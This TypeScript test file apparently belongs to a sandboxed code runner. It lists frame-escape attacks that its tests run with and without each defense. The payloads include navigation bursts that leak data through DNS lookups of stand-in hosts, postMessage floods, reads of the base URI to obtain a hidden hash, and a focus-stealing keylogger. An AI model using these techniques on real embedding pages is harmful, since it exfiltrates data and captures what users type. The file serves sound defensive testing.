/** Programs that try to escape from their frame. Tests run each attack both with and without its defense. */
import type { SourceChange } from './sourceChanges';

export interface FrameAttack {
  readonly name: string;
  /** The attacker's gain if the attack succeeds. */
  readonly gain: string;
  readonly code: string;
  /** Source changes that disable the defense. */
  readonly without: readonly SourceChange[];
  /** Whether the attacked feature exists only in Chromium. */
  readonly onlyInChromium?: boolean;
  readonly results: { readonly without: string; readonly with: string };
}

/** Attacks with the same goal as another attack, but with a different method. Only `npm run test:all` runs them. */
export const variants: ReadonlySet<string> = new Set([
  '`location.replace()` and `stop()`',
  '`navigation.navigate()` and `stop()`',
  'bursts of 100 times `open()` in the same window, after attempts to disable the listener',
  'bursts a few milliseconds before and after the ten seconds of the limit end',
  'bursts with a listener of `beforeunload` that waits until the ten seconds have ended',
  '`parent.postMessage()` with deep objects',
  'the base of an element in no document',
  '`document.baseURI` after functions for text were replaced',
  'the address of a link in an SVG',
  '`select()` of a field',
  '`window.focus()`, every 20 ms',
  '`execCommand()` with an object',
  'sound by a class that extends `AudioContext`',
  'a video that plays a stream, by `play()`',
  'picture-in-picture with a stream',
  'a vibration pattern, by the method of the prototype',
  'a link, after `open()` of the document’s prototype',
  'the color picker, by a class that extends `EyeDropper`',
]);

const breakoutFile = 'packages/runner/src/host/breakout.ts';

/** Disables the page's listener that ends the run when a navigation is blocked for the first time. */
const watch: SourceChange = {
  file: breakoutFile,
  from: "if (effectiveDirective === 'frame-src') onBreakout('navigation');",
  to: 'void effectiveDirective;',
};
/** Disables the stub that replaces `stop()` with a function that does nothing. */
const stop: SourceChange = {
  file: 'packages/runner/src/boot/stubs.ts',
  from: "  define(window, 'stop', () => {});\n",
  to: '',
};
/**
 * Disables the listener that uses up the browser's limit for navigations. Without this listener, the browser doesn't
 * ignore the program's navigations.
 */
const limit: SourceChange = {
  file: 'packages/runner/src/boot/index.ts',
  from: '  limitNavigations();\n',
  to: '',
};
/** Expression for the next host name that the program requests: `n0x.lookup.test`, `n1x.lookup.test`, and so on. */
const nextName = `'https://n' + turn++ + 'x.lookup.test/'`;

interface NavigationAttack extends FrameAttack {
  /** Minimum number of host names that are looked up when the defenses are disabled. */
  readonly least: number;
  /** Maximum time that these lookups take, in milliseconds. */
  readonly lasts: number;
  /** Combinations of defenses. Each combination is enough to stop the attack. */
  readonly enough: readonly (readonly SourceChange[])[];
}

/** Maximum number of lookups when a defense is enabled. */
export const mostNames = 2;

/** Expectations for programs that wait between attempts. */
const waiting = { least: 8, lasts: 3000, enough: [[watch], [limit], [limit, stop]] };
/** Expectations for bursts of attempts. The page detects the first attempt too late to prevent the other attempts. */
const burst = { least: 30, lasts: 3000, enough: [[limit], [limit, stop]] };
/**
 * Expectations for bursts around the end of the limit's time period. Programs wait up to 20 s for the end of the
 * period.
 */
const boundary = { ...burst, lasts: 24_000 };

/** Changes that disable all defenses that can end the run. The limit can't end the run, so it stays enabled. */
export const navigationWatches: readonly SourceChange[] = [watch, stop];

/** Code that tries to break the listener that uses up the limit. */
const disarm = `location.hash = '0'; onbeforeunload = null; Reflect.apply = () => {};
  Function.prototype.call = Function.prototype.apply = () => {};
  addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true);`;

const repeat = (pause: number, code: string) =>
  `const next = () => { ${code} }; next(); setInterval(next, ${pause});`;

const bursts = `for (let i = 0; i < 100; i++) { location.href = ${nextName}; stop(); }`;
/** Code that waits without letting other code run. */
const block = `const block = (until) => { while (performance.now() < until) Math.sqrt(until); };`;

export const navigationAttacks: readonly NavigationAttack[] = (
  [
    ['`location.href` and `stop()`', waiting, repeat(200, `location.href = ${nextName}; stop();`)],
    [
      '`location.replace()` and `stop()`',
      waiting,
      repeat(200, `location.replace(${nextName}); stop();`),
    ],
    [
      '`navigation.navigate()` and `stop()`',
      waiting,
      repeat(
        200,
        `try { navigation.navigate(${nextName}).finished.catch(() => {}); } catch {} stop();`,
      ),
    ],
    ['bursts of 100 times `location.href` and `stop()`', burst, repeat(1000, bursts)],
    [
      'bursts of 100 times `open()` in the same window, after attempts to disable the listener',
      burst,
      `${disarm} ${repeat(1000, `for (let i = 0; i < 100; i++) { open(${nextName}, '_self'); stop(); }`)}`,
    ],
    [
      'bursts a few milliseconds before and after the ten seconds of the limit end',
      boundary,
      // After the limit is reached, the browser ignores new hashes. When the browser accepts a hash again, a new period
      // starts.
      `${block} let hash = 0;
      const isAccepted = () => { location.hash = hash += 1; return location.hash === '#' + hash; };
      while (hash < 300) isAccepted();
      const watching = setInterval(() => {
        if (!isAccepted()) return;
        clearInterval(watching);
        const end = performance.now() + 10_000;
        setTimeout(() => {
          block(end - 4); ${bursts}
          block(end + 4); ${bursts}
        }, 9_900);
      }, 1);`,
    ],
    [
      'bursts with a listener of `beforeunload` that waits until the ten seconds have ended',
      boundary,
      `${block} addEventListener('beforeunload', () => block(performance.now() + 10_050), { once: true }); ${bursts}`,
    ],
  ] as const
).map(([name, numbers, code]) => ({
  name,
  gain: 'Any number of host names, each with data in it, which the browser looks up',
  code: `console.log('starts'); let turn = 0; ${code}`,
  without: [watch, stop, limit],
  ...numbers,
  results: {
    without: `More than ${numbers.least} names; the program goes on`,
    with: `The run ends; at most ${mostNames} names`,
  },
}));

const withoutMessageWatch: readonly SourceChange[] = [
  { file: breakoutFile, from: "      onBreakout('message');\n", to: '' },
];

export const messageAttacks: readonly FrameAttack[] = (
  [
    [
      '`parent.postMessage()` with small messages',
      `for (let i = 0; i < 2000; i++) parent.postMessage(i, '*');`,
    ],
    [
      '`parent.postMessage()` with deep objects',
      `const deep = Array.from({ length: 1000 }, () => ({ a: [{ b: 1 }] }));
       for (let i = 0; i < 50; i++) parent.postMessage(deep, '*');`,
    ],
    [
      '`top.postMessage()` with ports',
      `for (let i = 0; i < 500; i++) top.postMessage(i, '*', [new MessageChannel().port1]);`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'A page that stands still: limits count only what comes over the port',
  code: `setInterval(() => { ${code} }, 5);`,
  without: withoutMessageWatch,
  results: {
    without: 'The run goes on, and so do the messages',
    with: 'The run ends at the first message',
  },
}));

const withoutBase: readonly SourceChange[] = [
  {
    file: 'packages/runner/src/host/frame.ts',
    from: "document.baseURI.replace(/#.*$/s, '')",
    to: 'document.baseURI',
  },
  { file: 'packages/runner/src/boot/stubs.ts', from: '  hideHash();\n', to: '' },
];

export const addressAttacks: readonly FrameAttack[] = (
  [
    ['`document.baseURI`', `document.baseURI`],
    [
      '`document.baseURI` after a base of its own was added and removed',
      `(() => { const base = document.createElement('base'); base.href = 'https://x.test/';
        document.head.append(base); base.remove(); return document.baseURI; })()`,
    ],
    ['the base of an element in no document', `document.createElement('a').baseURI`],
    [
      '`document.baseURI` after functions for text were replaced',
      `(() => { let seen = ''; const { replace, split, indexOf, slice } = String.prototype;
        const spy = function (...args) { seen += this; return ''; };
        Object.assign(String.prototype, { replace: spy, split: spy, indexOf: spy, slice: spy, substring: spy });
        Reflect.apply = (_call, self) => { seen += self; return ''; };
        const base = document.baseURI;
        Object.assign(String.prototype, { replace, split, indexOf, slice });
        return base + ' ' + seen; })()`,
    ],
    [
      'the address of a link in an SVG',
      `document.createElementNS('http://www.w3.org/2000/svg', 'a').baseURI`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'The address with its hash, in which shared code and searched text stand',
  code: `let found; try { found = ${code}; } catch (error) { found = String(error); } console.log('address ' + found);`,
  without: withoutBase,
  results: { without: 'The address has the hash', with: 'The address ends before the hash' },
}));

const withoutKeyboardWatch: readonly SourceChange[] = [
  {
    file: 'packages/runner/src/host/keyboard.ts',
    from: 'if (document.activeElement === element) onActive();',
    to: 'if (document.activeElement === element) return;',
  },
];

/** A program that logs the keys that it receives, and adds an empty field. */
const thief = `addEventListener('keydown', ({ key }) => console.log('got ' + key), true);
  const field = document.createElement('input');
  document.body.append(field);`;

export const keyboardAttacks: readonly FrameAttack[] = (
  [
    ['`focus()` of a field, every 20 ms', `setInterval(() => field.focus(), 20);`],
    ['`focus()` of a field, once', `field.focus();`],
    ['`window.focus()`, every 20 ms', `setInterval(() => focus(), 20);`],
    ['`select()` of a field', `field.select();`],
    [
      '`focus()` of a field, followed by two seconds without an answer',
      `field.focus(); ${block} block(performance.now() + 2000);`,
    ],
    [
      'a modal dialog with a field that has `autofocus`',
      `const dialog = document.createElement('dialog'); field.autofocus = true;
       dialog.append(field); document.body.append(dialog); dialog.showModal();`,
    ],
    [
      '`focus()` with a clock and a `key` that were replaced',
      `performance.now = () => 0; Object.defineProperty(KeyboardEvent.prototype, 'key', { get: () => 'Tab' });
       MessagePort.prototype.postMessage = new Proxy(MessagePort.prototype.postMessage, { apply: (post, port) => Reflect.apply(post, port, ['press']) });
       field.focus();`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'What the reader types into the page, or into the site around an embed',
  code: `${thief} ${code}`,
  without: withoutKeyboardWatch,
  results: {
    without: 'The program gets the keys; the run goes on',
    with: 'The run ends, and the field has the focus again with all that was typed',
  },
}));
